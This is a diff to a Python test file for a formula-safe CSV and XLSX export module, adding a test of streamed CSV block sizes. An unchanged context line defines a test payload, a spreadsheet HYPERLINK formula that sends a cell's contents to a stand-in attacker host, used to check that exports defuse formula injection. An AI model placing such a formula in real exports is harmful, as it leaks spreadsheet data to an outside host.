@@ -1,5 +1,6 @@
 """The one export module: formula-safe CSV, typed XLSX, never cached."""
 
+import contextlib
 import csv
 import datetime as dt
 import io
@@ -7,6 +8,7 @@ from decimal import Decimal
 
 from openpyxl import load_workbook
 
+from worldclass.core import exports
 from worldclass.core.exports import Table, csv_lines, csv_response, to_xlsx
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1)'
@@ -90,3 +92,13 @@ def test_downloads_are_never_cached():
         "no-store",
         'attachment; filename="a b.csv"',
     )
+
+
+def test_a_streamed_csv_sends_a_small_first_block_then_full_blocks(monkeypatch):
+    monkeypatch.setattr(exports, "CSV_ROWS_FIRST_BLOCK", 2)
+    monkeypatch.setattr(exports, "CSV_ROWS_PER_BLOCK", 3)
+    table = Table(title="t", columns=["n"], rows=([n] for n in range(7)))
+    response = csv_response(table, filename="n.csv", stream_within=contextlib.nullcontext())
+    lines_per_block = [block.decode("utf-8-sig").count("\r\n") for block in response.streaming_content]
+    # The header with 2 rows, then blocks of 3, then the rest.
+    assert lines_per_block == [3, 3, 2]
